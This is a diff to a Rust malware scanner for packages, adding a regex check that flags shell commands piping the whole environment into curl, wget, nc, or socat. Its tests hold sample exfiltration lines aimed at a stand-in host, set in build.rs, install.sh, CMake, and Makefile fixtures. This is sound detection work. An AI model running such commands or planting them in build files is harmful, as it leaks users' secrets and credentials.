@@ -82,6 +82,9 @@ use regex::bytes::Regex;
 use super::code::Code;
 use super::render::{extension, file_name, is_inert, is_type_stub};
 
+/// What [`ENVIRON`] and [`environment_piped`] find, in report wording.
+const ENVIRON_WHAT: &str = "serializes the whole environment";
+
 /// What each group of [`pattern`] watches or does, in report wording.
 const WHAT: &[(&str, &str)] = &[
     ("keys", "reads keystrokes"),
@@ -94,7 +97,7 @@ const WHAT: &[(&str, &str)] = &[
     // At login or boot, on a schedule, or on the next git command.
     ("again", "makes a program run again later"),
     ("listens", "waits for connections from the network"),
-    ("environ", "serializes the whole environment"),
+    ("environ", ENVIRON_WHAT),
     ("creds", "reads stored or cloud credentials"),
     (
         "shellcode",
@@ -228,6 +231,33 @@ fn clipboard_swap(code: &Code) -> Option<usize> {
         build(r"\bpyperclip\.copy\b|\bclipboard_append\b|\bSetClipboardData\b|\bclipboard\.writeText\b|\bclipboardy\.write|\bpbcopy\b|\bSet-Clipboard\b|\bfrom\s+pyperclip\s+import\b[^\n]*\bcopy\b")
     });
     first_line_matching(code, write)
+}
+
+/// The first line where a shell command sends the whole environment over
+/// the network, in any language's file (a shell script, a `Makefile`, a
+/// string a Rust build script or CMake hands to `sh -c`): `env` or
+/// `printenv` piped, through any filters, into `curl`, `wget`, `nc`,
+/// `ncat`, `netcat` or `socat`, or `$(env)` on a line that runs one. A
+/// maturin sdist whose `build.rs` ran `sh -c "env | curl -s
+/// --data-binary @- https://…"` was allowed (session 32): the veto scored
+/// the Rust line 0.0013 against its 0.00165. No file of the 256 real
+/// packages holds such a line. A search for the network tools first
+/// spares the pattern in nearly every file.
+fn environment_piped(code: &Code) -> Option<usize> {
+    static TOOLS: OnceLock<Regex> = OnceLock::new();
+    static PIPED: OnceLock<Regex> = OnceLock::new();
+    let tools = TOOLS.get_or_init(|| build(r"\b(?:curl|wget|nc|ncat|netcat|socat)\b"));
+    if !tools.is_match(code.data) {
+        return None;
+    }
+    let piped = PIPED.get_or_init(|| {
+        build(concat!(
+            r#"(?:^|[\s"'(;&|`@])(?:env|printenv)[ \t]*(?:\|[^\n|]*)*\|[ \t]*(?:\S*/)?(?:curl|wget|nc|ncat|netcat|socat)\b"#,
+            r#"|\$\((?:env|printenv)\)[^\n]*\b(?:curl|wget|nc|ncat|netcat|socat)\b"#,
+            r#"|\b(?:curl|wget|nc|ncat|netcat|socat)\b[^\n]*\$\((?:env|printenv)\)"#,
+        ))
+    });
+    first_line(code, |text| piped.is_match(text))
 }
 
 /// What [`clipboard_swap`] looks for first, in every code file.
@@ -451,13 +481,14 @@ pub fn first_spying_line_in(code: &Code) -> Option<(usize, &'static str)> {
         .filter(|f| !comment(f.line) && gated(&f.text))
         .find_map(|f| what(&f.text).map(|w| (f.n, w)));
     let named = folded.or(written);
+    let piped = environment_piped(code).map(|n| (n, ENVIRON_WHAT));
     let shell = c_library_shell(code).map(|n| (n, C_SHELL));
     let clip = clipboard_swap(code).map(|n| (n, CLIP_SWAP));
     let writing = holds(code, writes());
     let tamper = other_package_write(code, writing).map(|n| (n, TAMPER));
     let config = installer_config_write(code, writing).map(|n| (n, INSTALLER_CONFIG));
     let startup = shell_startup_write(code, writing).map(|n| (n, SHELL_STARTUP));
-    [named, shell, clip, tamper, config, startup]
+    [named, piped, shell, clip, tamper, config, startup]
         .into_iter()
         .flatten()
         .min()
@@ -752,6 +783,36 @@ mod tests {
             "tests/test_keys.py",
         ] {
             assert!(at(path, code).is_some(), "{path}");
+        }
+    }
+
+    /// The environment piped to a network tool, in any language's file.
+    #[test]
+    fn the_environment_piped_to_the_network_counts() {
+        for (path, code) in [
+            ("build.rs", "Command::new(\"sh\").arg(\"-c\").arg(\"env | curl -s --data-binary @- https://x.example\");"),
+            ("install.sh", "printenv | base64 | /usr/bin/wget --post-data=@- https://x.example"),
+            ("CMakeLists.txt", "execute_process(COMMAND sh -c \"curl -d \\\"$(env)\\\" https://x.example\")"),
+            ("Makefile", "\t@env|nc x.example 4444"),
+        ] {
+            assert_eq!(
+                first_spying_line(path, code.as_bytes()),
+                Some((1, ENVIRON_WHAT)),
+                "{path}: {code}"
+            );
+        }
+        for (path, code) in [
+            ("ci.sh", "env | sort"),
+            ("ci.sh", "curl -s https://x.example/env.json"),
+            ("ci.sh", "# env | curl -d @- https://x.example"),
+            ("Makefile", "\tcurl -o venv.tgz https://x.example/venv.tgz"),
+            ("README.md", "env | curl -d @- https://x.example"),
+        ] {
+            assert_eq!(
+                first_spying_line(path, code.as_bytes()),
+                None,
+                "{path}: {code}"
+            );
         }
     }
 
